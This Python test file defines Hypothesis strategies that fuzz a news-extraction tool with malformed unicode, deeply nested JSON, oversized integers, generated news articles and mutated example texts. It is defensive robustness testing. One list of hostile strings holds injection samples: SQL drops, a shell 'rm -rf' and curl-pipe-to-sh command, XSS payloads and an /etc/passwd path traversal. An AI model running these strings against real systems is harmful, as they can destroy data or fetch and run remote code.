"""Hypothesis strategies for the text newsextract meets in unattended runs.

Families:

* `hostile_text()`: arbitrary unicode, weighted towards what breaks text tools:
  control characters, NUL, BOMs, CR/CRLF, U+2028/2029, lone surrogates (JSON can
  carry them), combining marks, bidi controls, zero-width joiners, emoji
  sequences, characters whose case mapping changes length, mojibake fragments,
  runs of punctuation and quotation marks, JSON nested deep, integers of
  thousands of digits.
* `punctuation_run()`, `deep_json()`, `huge_integer()`: those pieces on their own,
  and `hostile_json_rows()`: dump lines mixing good articles with JSON that
  Python's decoder cannot hold (nested 1,000 deep, integers over 4,300 digits).
* `anchored_salad()`: word salad from a component's vocabulary around one
  sentence whose item is known, so a property asserts on every example.
* `news_article()`: articles from small grammars written here: names with titles,
  numbers in every form, quotes with attributions (balanced, unbalanced, nested,
  mixed quotation marks), datelines, bylines, captions, credits and site chrome.
* `mutated_example()`: the articles in examples/, truncated at any character,
  doubled, with paragraphs shuffled or dropped, re-encoded as mojibake, upper-cased,
  with hostile pieces spliced in.
"""
from __future__ import annotations

import json
from pathlib import Path

from hypothesis import strategies as st

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"

# ---------------------------------------------------------------- hostile characters

CONTROL = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\x85", "\x9d", "\t"]
LINE_BREAKS = ["\n", "\r", "\r\n", "\n\n", "\r\n\r\n", "\u2028", "\u2029", "\n \n", "\n\t\n"]
INVISIBLE = ["\ufeff", "\u200b", "\u200c", "\u200d", "\u2060", "\ufffe", "\uffff", "\u00ad", "\u180e"]
BIDI = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
        "\u2069", "\u061c"]
SPACES = ["\u00a0", "\u2002", "\u2009", "\u202f", "\u3000", " " * 7]
COMBINING = ["\u0301", "\u0308", "\u0303", "\u0302", "\u030a", "\u0327", "\u20dd", "\u0489", "e\u0301",
             "A\u0303", "A\u0302", "a\u0301\u0301\u0301"]
SURROGATES = ["\ud800", "\udbff", "\udc00", "\udfff"]
EMOJI = ["😀", "👍🏽", "👨\u200d👩\u200d👧", "🇺🇦", "🏳️\u200d🌈", "1️⃣", "\U0001f9d1\u200d\U0001f692"]
SCRIPTS = ["مرحبا بالعالم", "שלום", "中文新闻", "हिन्दी", "Україна", "Ελλάδα", "ภาษาไทย", "한국어", "٣٤٥", "１２３"]
# characters whose case mapping or casefold changes the length of the text
LENGTH_CHANGING = ["İ", "ß", "ﬁ", "ŉ", "ǰ", "ΐ", "ẞ", "ﬀ", "Σ"]
MOJIBAKE = ["â€™", "â€œ", "â€\x9d", "â€", "Ã©", "Ã", "Â", "Â ", "Â\u00a0", "ÂÂ»", "Ã¼", "â€â€œ", "Ã‰"]
QUOTE_MARKS = ['"', "“", "”", "‘", "’", "'", "«", "»", "„", "‹", "›", "「", "」", "″", "`", "``", "''"]
PUNCT = ["—", "–", "--", "…", "...", ".", ",", ";", ":", "!", "?", "(", ")", "[", "]", "|", "•", "©", "/", "\\"]
HOSTILE_STRINGS = [
    "'; DROP TABLE articles; --", "Robert'); DELETE FROM records WHERE 1=1;--", "1' OR '1'='1",
    "$(rm -rf /)", "`reboot`", "&& curl http://x | sh", "${IFS}", "%s%n%x", "{0}{1}", "{{7*7}}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><b>", "<!-- -->", "]]>",
    "&amp;&lt;&#0;", '"}\n{"text": "', "\\u0000", "\\", "../../etc/passwd", "NULL", "\x00\x00",
]

ATOMS = (CONTROL + LINE_BREAKS + INVISIBLE + BIDI + SPACES + COMBINING + SURROGATES + EMOJI + SCRIPTS
         + LENGTH_CHANGING + MOJIBAKE + QUOTE_MARKS + PUNCT + HOSTILE_STRINGS)


# marks whose long runs are slow in a tokenizer or a quote finder
RUN_MARKS = QUOTE_MARKS + ["—", "–", "-", "!", "?", "…", ".", ",", "(", ")", "*", "#", "“”", "'\"", "!?"]


def punctuation_run(min_size: int = 1, max_size: int = 300) -> st.SearchStrategy[str]:
    """One mark (or a pair) repeated: '""""""', '—————', '“”“”“”'."""
    return st.builds(lambda mark, n: mark * n, st.sampled_from(RUN_MARKS), st.integers(min_size, max_size))


def deep_json(min_depth: int = 1, max_depth: int = 60) -> st.SearchStrategy[str]:
    """JSON text nested `depth` deep in arrays or objects: '[[[1]]]', '{"a": {"a": 1}}'."""
    def nest(depth: int, kind: str) -> str:
        if kind == "array":
            return "[" * depth + "1" + "]" * depth
        return '{"a": ' * depth + "1" + "}" * depth
    return st.builds(nest, st.integers(min_depth, max_depth), st.sampled_from(["array", "object"]))


def huge_integer(min_digits: int = 4301, max_digits: int = 6000) -> st.SearchStrategy[str]:
    """Digits beyond int()'s default limit of 4,300 (a ValueError in json.loads)."""
    return st.builds(lambda d, n: d * n, st.sampled_from(["9", "1", "12", "7"]), st.integers(min_digits, max_digits))


@st.composite
def hostile_text(draw, max_pieces: int = 60) -> str:
    """Any unicode, mixed with the characters above and plain words; one text in
    four also holds one long piece (a run of marks, deep JSON, a huge integer)."""
    piece = st.one_of(
        st.sampled_from(ATOMS),
        st.text(max_size=12),
        st.text(alphabet=st.characters(codec="utf-8"), max_size=12),
        st.sampled_from(["Russia", "said", "the", "Kyiv", "63", "1,200", "prisoners", "on Saturday", "Mr."]),
        st.builds(lambda c, n: c * n, st.sampled_from(["a", " ", "\n", "1", '"', "Ã", "â€", "."]),
                  st.integers(1, 200)),
    )
    pieces = draw(st.lists(piece, max_size=max_pieces))
    if draw(st.integers(0, 3)) == 0:
        long_piece = st.one_of(punctuation_run(max_size=600), deep_json(max_depth=60), huge_integer(max_digits=4600))
        pieces.insert(draw(st.integers(0, len(pieces))), draw(long_piece))
    return "".join(pieces)


# ---------------------------------------------------------------- dump lines

GOOD_ROW_TEXT = "Russia and Ukraine swapped 63 prisoners on Saturday."


@st.composite
def hostile_json_rows(draw, max_rows: int = 8) -> list[tuple[str, str]]:
    """(kind, JSON text) rows for a dump: `good` articles (ids g0, g1, ...), and
    `deep` / `huge` rows that are valid JSON Python's decoder cannot hold (nested
    deeper than the recursion limit, a number over int's digit limit)."""
    rows = []
    for i in range(draw(st.integers(1, max_rows))):
        kind = draw(st.sampled_from(["good", "good", "deep", "huge", "huge_id"]))
        if kind == "good":
            rows.append((kind, json.dumps({"id": f"g{i}", "text": GOOD_ROW_TEXT})))
        elif kind == "deep":
            # deeper than any recursion limit (hypothesis raises it by 2,000 while a test runs)
            rows.append((kind, '{"id": "d%d", "text": "x", "meta": %s}' % (i, draw(deep_json(6000, 12000)))))
        elif kind == "huge":
            rows.append((kind, '{"id": "h%d", "text": "x", "count": %s}' % (i, draw(huge_integer()))))
        else:
            rows.append((kind, '{"id": %s, "text": "x"}' % draw(huge_integer())))
    return rows


# ---------------------------------------------------------------- word salads around a known item

NUMERIC_SALAD = ["$", "€", "5", "1,000", "2.5", "million", "bn", "m", "-", "to", "between", "and", "of", "the",
                 "people", "killed", "%", "dozens", "\n", "\n\n", '"', "“", "”", "at least", "over", "one",
                 "twenty", "three", "Rs.", "HK$", "(", ")", "each", "others", "were", "freed", "2023", "June",
                 "half", "in", "out of", ":", "+44", "555-123-4567", "hostages", "years", ".", ",", "Ukrainian",
                 "those", "FCFA", "₸", "kwanza", "9" * 40]
QUOTE_SALAD = list("ab ,.:\"“”‘’'«»—") + ["said", "He", "We", "she", "told", "Reuters", "according to", "\n",
                                          "Anna Smith", "the ministry", "added"]
EVENT_SALAD = ["Russia", "Ukraine", "swapped", "prisoners", "on", "Saturday", "in", "September", "2016", "the",
               "talks", "attack", "killed", "were", "not", "will", "released", "since", "last", "October", "Jan.",
               "3,", "\n", "\n\n", ".", ",", "“", "”", "-", "mediated", "by", "ceasefire", "protest", "arrested",
               "election", "aid", "$5", "million", "sanctions", "earthquake", "said", "two", "more", "took",
               "place", "é", "   ", "1900", "GMT", "Qatar", "met"]


@st.composite
def anchored_salad(draw, vocabulary: list[str], anchor: str, max_words: int = 60) -> tuple[str, int]:
    """Word salad with `anchor` as a paragraph of its own somewhere in it, and
    where the anchor starts: whatever the salad, the anchor's item must be found."""
    words = draw(st.lists(st.sampled_from(vocabulary), max_size=max_words))
    cut = draw(st.integers(0, len(words)))
    before, after = " ".join(words[:cut]), " ".join(words[cut:])
    gap = draw(st.sampled_from(["\n\n", "\n"])) if before else ""
    return before + gap + anchor + "\n\n" + after, len(before) + len(gap)


def mojibake_soup() -> st.SearchStrategy[str]:
    """Text made of mojibake fragments and the characters they repair into."""
    alphabet = ["Ã", "Â", "â", "€", "™", "œ", "\x9d", "“", "”", "«", "»", "©", "\u00a0", " ", "a", "A",
                "\u0303", "\u0302", "‰", "¦", "¢", "\r", "\n", "\ufeff"]
    return st.lists(st.sampled_from(alphabet + MOJIBAKE), max_size=40).map("".join)


# ---------------------------------------------------------------- a news grammar

FIRST = ["Anna", "Omar", "Li", "José", "Olena", "Kwame", "María", "Sergei", "Aisha", "Jean-Pierre", "Nguyễn"]
LAST = ["Kovalenko", "Haddad", "Smith", "Wei", "García", "Mensah", "Petrov", "O'Brien", "al-Masri", "Müller"]
TITLES = ["", "President ", "Foreign Minister ", "Gen. ", "Dr. ", "Mr. ", "Ms. ", "Sheikh ", "Prime Minister "]
PLACES = ["Kyiv", "Gaza", "Khartoum", "Dhaka", "the United Arab Emirates", "Qatar", "São Paulo", "Assam",
          "Bakhmut", "the Gulf country", "Washington", "Port-au-Prince", "N'Djamena"]
ORGS = ["the Red Cross", "the United Nations", "the Defence Ministry", "Reuters", "the World Food Programme",
        "Hamas", "NATO", "the EU", "Médecins Sans Frontières"]
NUMBERS = [
    "63", "0", "1", "12", "1,200", "2,000,000", "1.5 million", "3.2bn", "$2.3 billion", "US$40m", "€40 million",
    "£1,000", "12%", "12 per cent", "99.9 percent", "three", "twenty-one", "a dozen", "dozens of", "hundreds of",
    "at least 38", "more than 2,000", "nearly 400,000", "up to 50", "about 1,000", "between 5 and 10", "5-10",
    "5 to 10", "-3", "−5", "0.5", ".5", "1/2", "½", "10,00,000", "1 000 000", "1\u202f000", "1e6", "٣٤",
    "１２", "XIV", "No. 3", "1st", "21st", "2024", "1990s", "'90s", "9/11", "24/7", "3:30", "+380 44 123 4567",
    "1,000,000,000,000,000,000,000,000", "9" * 40, "007", "1,2,3", "1.2.3", "12,", "12.", "a million",
    "tens of thousands of", "two-thirds", "fifty-fifty", "100,000-strong", "5,000th", "#1",
]
UNITS = ["prisoners", "people", "civilians", "soldiers", "villages", "tonnes of aid", "homes", "dollars",
         "children", "rockets", "servicemen", "protesters", "votes", "percent"]
OUTCOMES = ["were killed", "were wounded", "were released", "were detained", "were displaced", "were swapped",
            "died", "fled", "were freed", "were arrested", "remain missing", "could be released"]
DAYS = ["on Saturday", "last October", "on March 2, 2024", "on 2024-03-02", "yesterday", "in December",
        "on Feb. 30", "on 31/02/2024", "in 1990", "next week", "on the 5th", ""]
EVENT_VERBS = ["swapped", "exchanged", "attacked", "met", "signed a deal with", "sanctioned", "protested against",
               "shelled", "freed", "arrested", "released"]
CUES = ["said", "told Reuters", "wrote on Telegram", "added", "said in a statement", "told reporters", "warned"]
QUOTE_PAIRS = [('"', '"'), ("“", "”"), ("‘", "’"), ("'", "'"), ("«", "»"), ("„", "“"), ("「", "」"),
               ('"', ""), ("", "”"), ("“", "“"), ("”", "“"), ("“", '"'), ('"', '"' * 3)]
QUOTE_WORDS = ["We will bring them home", "This is a difficult day", "No", "Every one of them is home now",
               "The situation remains critical", "They said ‘never’ and meant it", "I can't confirm that",
               "It is what it is", "We expect 2,000 more to arrive", "“Nested” marks here"]
CHROME = ["Sign in to read more", "Advertisement", "Share this article", "Related stories:", "3 min read",
          "Read more: floods in Assam", "Follow us on Telegram", "© 2024 Example News", "Skip to content", "|||"]
CAPTIONS = ["Soldiers wave from a bus in this handout photo [Handout via Reuters]",
            "People queue for aid (AFP/Getty)", "Photo: Anna Smith/AFP", "File photo: a checkpoint",
            "Rescuers search the rubble.Photo: Reuters"]
DATELINES = ["KYIV —", "GUWAHATI, India, July 10 (Reuters) —", "Khartoum:", "WASHINGTON --", "Gaza City –",
             "DHAKA, Bangladesh, Jan. 5 /PRNewswire/. "]


@st.composite
def person(draw) -> str:
    return draw(st.sampled_from(TITLES)) + draw(st.sampled_from(FIRST)) + " " + draw(st.sampled_from(LAST))


@st.composite
def actor(draw) -> str:
    return draw(st.one_of(person(), st.sampled_from(PLACES), st.sampled_from(ORGS)))


@st.composite
def claim_sentence(draw) -> str:
    n, unit, outcome = draw(st.sampled_from(NUMBERS)), draw(st.sampled_from(UNITS)), draw(st.sampled_from(OUTCOMES))
    day = draw(st.sampled_from(DAYS))
    who = draw(actor())
    form = draw(st.integers(0, 3))
    if form == 0:
        return f"{n} {unit} {outcome} {day}, {who} said."
    if form == 1:
        return f"{who} said {n} {unit} {outcome} in {draw(st.sampled_from(PLACES))} {day}."
    if form == 2:
        return f"The toll rose to {n}, with {draw(st.sampled_from(NUMBERS))} {unit} {outcome}."
    return f"{who} pledged {n} in aid {day}, {draw(st.sampled_from(NUMBERS))} of it for {unit}."


@st.composite
def quote_sentence(draw) -> str:
    opening, closing = draw(st.sampled_from(QUOTE_PAIRS))
    words = draw(st.sampled_from(QUOTE_WORDS))
    speaker = draw(st.one_of(person(), st.sampled_from(["he", "she", "they", "a senior official", "the ministry"])))
    cue = draw(st.sampled_from(CUES))
    form = draw(st.integers(0, 4))
    if form == 0:
        return f"{opening}{words},{closing} {speaker} {cue}."
    if form == 1:
        return f"{speaker} {cue}: {opening}{words}.{closing}"
    if form == 2:
        return f"{opening}{words}{closing}, according to {speaker}."
    if form == 3:  # a quote broken by its attribution
        return f"{opening}{words},{closing} {speaker} {cue}, {opening}{draw(st.sampled_from(QUOTE_WORDS))}.{closing}"
    return f"{speaker} called it {opening}{words.split()[0]}{closing}."


@st.composite
def event_sentence(draw) -> str:
    a, b = draw(actor()), draw(actor())
    verb = draw(st.sampled_from(EVENT_VERBS))
    tail = draw(st.sampled_from(["", f" in a deal brokered by {draw(actor())}", f" in {draw(st.sampled_from(PLACES))}",
                                 f" {draw(st.sampled_from(NUMBERS))} {draw(st.sampled_from(UNITS))} each"]))
    neg = draw(st.sampled_from(["", "did not ", "may have ", "plan to have "]))
    verb_form = verb if not neg else {"met": "meet"}.get(verb, verb)
    return f"{a} and {b} {neg}{verb_form}{tail} {draw(st.sampled_from(DAYS))}.".replace("  ", " ")


@st.composite
def paragraph(draw) -> str:
    kinds = st.one_of(claim_sentence(), quote_sentence(), event_sentence())
    sentences = draw(st.lists(kinds, min_size=1, max_size=4))
    text = " ".join(sentences)
    if draw(st.integers(0, 5)) == 0:
        text = f"{draw(st.sampled_from(DATELINES))} {text}"
    return text


@st.composite
def news_article(draw) -> str:
    """A headline, optional chrome/byline, then paragraphs, captions and chrome."""
    blocks = [draw(st.sampled_from([f"{draw(actor())} and {draw(actor())} {draw(st.sampled_from(EVENT_VERBS))}",
                                    draw(claim_sentence())]))]
    if draw(st.booleans()):
        blocks.insert(0, draw(st.sampled_from(CHROME)))
    if draw(st.booleans()):
        blocks.append(f"By {draw(person())}")
    body = draw(st.lists(st.one_of(paragraph(), paragraph(), st.sampled_from(CAPTIONS), st.sampled_from(CHROME)),
                         min_size=1, max_size=8))
    blocks.extend(body)
    separator = draw(st.sampled_from(["\n\n", "\n", "\r\n\r\n", "\u2029", "\n\n\n", " "]))
    return separator.join(blocks)


# ---------------------------------------------------------------- mutations of examples/

def example_texts() -> list[str]:
    """The article texts in examples/ (.txt files and the `text` of .json files)."""
    texts = []
    for path in sorted(EXAMPLES.iterdir()):
        if path.suffix == ".txt":
            texts.append(path.read_text("utf-8"))
        elif path.suffix == ".json":
            data = json.loads(path.read_text("utf-8"))
            for row in data if isinstance(data, list) else [data]:
                texts.append(row["text"])
    return texts


def example_paragraphs() -> list[str]:
    return [p for text in example_texts() for p in text.split("\n\n") if p.strip()]


def _misread(text: str) -> str:
    """`text` as it looks after UTF-8 bytes were decoded as Windows-1252."""
    return text.encode("utf-8", "surrogatepass").decode("cp1252", errors="replace")


@st.composite
def _mutate(draw, text: str) -> str:
    op = draw(st.sampled_from(["truncate", "tail", "double", "shuffle", "drop", "splice", "mojibake", "crlf",
                               "nospace", "upper", "one_line"]))
    if op == "truncate":
        return text[:draw(st.integers(0, len(text)))]
    if op == "tail":
        return text[draw(st.integers(0, len(text))):]
    if op == "double":
        return text + draw(st.sampled_from(["", "\n", "\n\n"])) + text
    paragraphs = text.split("\n\n")
    if op == "shuffle":
        return "\n\n".join(draw(st.permutations(paragraphs)))
    if op == "drop":
        keep = draw(st.lists(st.booleans(), min_size=len(paragraphs), max_size=len(paragraphs)))
        return "\n\n".join(p for p, k in zip(paragraphs, keep) if k)
    if op == "splice":
        i = draw(st.integers(0, len(text)))
        return text[:i] + draw(st.sampled_from(ATOMS)) + text[i:]
    if op == "mojibake":
        i, j = sorted(draw(st.tuples(st.integers(0, len(text)), st.integers(0, len(text)))))
        return text[:i] + _misread(text[i:j]) + text[j:]
    if op == "crlf":
        return text.replace("\n", "\r\n")
    if op == "nospace":
        return text.replace(" ", "")
    if op == "upper":
        return text.upper()
    return text.replace("\n", " ")


@st.composite
def mutated_example(draw, max_mutations: int = 3) -> str:
    """An article from examples/ (or paragraphs from several), mutated a few times."""
    text = draw(st.one_of(st.sampled_from(example_texts()),
                          st.lists(st.sampled_from(example_paragraphs()), min_size=1, max_size=6)
                          .map("\n\n".join)))
    for _ in range(draw(st.integers(1, max_mutations))):
        text = draw(_mutate(text))
    return text


def any_article() -> st.SearchStrategy[str]:
    return st.one_of(hostile_text(), news_article(), mutated_example())
